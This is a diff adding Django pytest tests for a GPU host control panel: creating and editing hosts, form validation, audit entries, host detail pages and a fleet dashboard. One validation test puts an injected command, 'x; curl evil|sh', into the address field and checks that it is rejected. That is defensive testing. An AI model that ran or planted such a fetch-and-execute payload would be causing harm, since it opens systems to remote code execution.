@@ -1,0 +1,97 @@
+"""Host pages: create and edit through forms, bad input loses nothing, every change audited."""
+
+from decimal import Decimal
+
+import pytest
+from django.urls import reverse
+
+from controlpanel.models import AuditEntry
+from hosts.models import Host
+from tests.factories import make_deployment, make_gpu, make_host
+
+pytestmark = pytest.mark.django_db
+
+
+def test_operator_adds_a_host(client, operator):
+    client.force_login(operator)
+    response = client.post(
+        reverse("hosts:create"),
+        {
+            "name": "gpu-new",
+            "address": "10.0.0.9",
+            "transport": "agent",
+            "port": "",
+            "labels": "zone=a",
+            "hourly_price": "4.20",
+            "description": "",
+        },
+    )
+    host = Host.objects.get(name="gpu-new")
+    assert response.status_code == 302 and response["Location"] == host.get_absolute_url()
+    entry = AuditEntry.objects.get(action="host.create")
+    assert entry.actor == operator and entry.after["address"] == "10.0.0.9"
+
+
+def test_bad_input_is_explained_and_saves_nothing(client, operator):
+    client.force_login(operator)
+    response = client.post(
+        reverse("hosts:create"),
+        {
+            "name": "bad",
+            "address": "x; curl evil|sh",
+            "transport": "ssh",
+            "port": "99999",
+            "labels": "",
+            "hourly_price": "-1",
+        },
+    )
+    assert response.status_code == 200
+    page = response.content.decode()
+    assert "is not a host name or IP address" in page
+    assert "Ensure this value is less than or equal to 65535" in page
+    assert not Host.objects.filter(name="bad").exists()
+    assert not AuditEntry.objects.exists()
+
+
+def test_edit_records_before_and_after(client, operator):
+    host = make_host(name="edit-me", port=8421)
+    client.force_login(operator)
+    client.post(
+        reverse("hosts:edit", args=[host.pk]),
+        {
+            "name": "edit-me",
+            "address": host.address,
+            "transport": "agent",
+            "port": "9000",
+            "labels": "zone=test",
+            "hourly_price": "2.50",
+            "description": "",
+        },
+    )
+    entry = AuditEntry.objects.get(action="host.update")
+    assert entry.before["port"] == 8421 and entry.after["port"] == 9000
+    assert entry.changed_fields == ["port"]
+
+
+def test_detail_shows_gpus_deployments_and_live_socket(client, viewer):
+    host = make_host(name="detail-host")
+    make_gpu(host, name="NVIDIA L40S")
+    make_deployment(host, name="chat-engine")
+    client.force_login(viewer)
+    page = client.get(reverse("hosts:detail", args=[host.pk])).content.decode()
+    assert "NVIDIA L40S" in page and "chat-engine" in page
+    assert f'data-live-socket="/ws/hosts/{host.pk}/"' in page
+    assert "Check reachability" not in page  # a viewer gets no button it cannot use
+
+
+def test_dashboard_summarises_the_fleet(client, viewer):
+    host = make_host(hourly_price="3.00")
+    make_gpu(host)
+    make_gpu(host)
+    client.force_login(viewer)
+    response = client.get(reverse("dashboard"))
+    assert response.context["gpu_count"] == 2
+    assert response.context["fleet_hourly"] == Decimal("3")
+    chart = response.context["chart"]["data"][0]
+    assert chart["x"] == [host.name] and chart["y"] == [160.0]
+    assert 'id="gpu-memory-chart-data"' in response.content.decode()
